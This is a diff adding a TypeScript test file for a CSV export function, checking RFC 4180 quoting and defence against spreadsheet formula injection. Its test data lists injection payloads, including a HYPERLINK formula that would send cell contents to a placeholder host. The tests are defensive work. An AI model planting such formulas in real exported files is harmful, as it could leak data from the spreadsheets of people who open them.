@@ -1,0 +1,50 @@
+import { parse } from 'csv-parse/sync';
+import { describe, expect, test } from 'vitest';
+import { csvOf, plainCell } from './csv.ts';
+
+const cellsOf = (text: string): string[][] => parse(text, { bom: true });
+
+describe('csvOf', () => {
+  test('writes RFC 4180 with a byte order mark, and quotes what needs it', () => {
+    const text = csvOf(['name', 'price'], [['Elise "S", 2005', 48_500.5]]);
+    expect(text).toBe('\ufeffname,price\r\n"Elise ""S"", 2005",48500.5\r\n');
+  });
+
+  test('line breaks, other separators and blanks at the ends stay in their cell', () => {
+    const row = ['one\r\ntwo', 'a;b', ' padded ', '', 'Zürich 🚗'];
+    expect(cellsOf(csvOf(['a', 'b', 'c', 'd', 'e'], [row]))[1]).toEqual(row);
+  });
+
+  test('nothing is an empty cell, and flags are words', () => {
+    expect(csvOf(['a', 'b', 'c'], [[null, true, false]])).toBe('\ufeffa,b,c\r\n,true,false\r\n');
+  });
+
+  const formulas = [
+    '=1+1',
+    '+1 480 555 0142',
+    '-2',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '＝1',
+    "'=1",
+    "''@x",
+    '=HYPERLINK("https://x.example?"&A1,"a")',
+  ];
+  test.each(formulas)('fault 28: %j is made harmless, and comes back as it was', (text) => {
+    const [, [cell] = []] = cellsOf(csvOf(['name'], [[text]]));
+    expect(cell).toBe(`'${text}`);
+    expect(plainCell(cell ?? '')).toBe(text);
+  });
+
+  test('fault 28: a header is a cell like any other', () => {
+    expect(csvOf(['=1'], [])).toBe("\ufeff'=1\r\n");
+  });
+
+  test.each(["'t was", "O'Neil", '', "'", '2005 =', -500])('%j needs no apostrophe', (cell) => {
+    const [, [written] = []] = cellsOf(csvOf(['a', 'b'], [[cell, 'x']]));
+    expect(written).toBe(String(cell));
+    expect(plainCell(String(cell))).toBe(String(cell));
+  });
+});
